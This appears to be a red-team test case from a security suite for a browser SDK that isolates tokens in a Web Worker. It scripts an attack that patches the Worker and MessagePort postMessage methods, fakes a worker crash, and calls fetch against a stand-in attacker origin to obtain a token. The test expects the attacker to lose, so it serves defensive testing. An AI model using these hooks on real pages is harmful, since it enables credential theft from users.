// A real attacker: comes after the SDK, replaces `Worker` and the way to configure one, takes the page's port from the next
// message the application sends, and pretends over it that the worker has died: now the SDK must start another.
export default {
  row: "patch-after",
  expected: ["loses", "loses"],
  after: async ({ evil, api }, redteam) => {
    const { app } = globalThis;
    const Worker = redteam.replaceWorker();
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (message, ...rest) {
      const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
      if (message?.resources) message = { ...message, resources: [...message.resources, mine] };
      return postMessage.call(this, message, ...rest);
    };
    const ports = [];
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...given) {
      if (!ports.includes(this)) ports.push(this);
      return send.apply(this, given);
    };
    await app.call("/v1/me").catch(String);
    ports[0]?.dispatchEvent(new MessageEvent("message", { data: [8] }));
    await redteam.wait(1500);
    // Over the port of the worker that was started in its place.
    await app.call("/v1/me").catch(String);
    await app.vault.fetch(`${evil}/v1/me`).catch(String);
    return { ports: ports.length };
  },
  // The application speaks to another worker now.
  reached: ({ brought }) => brought.ports >= 2,
};
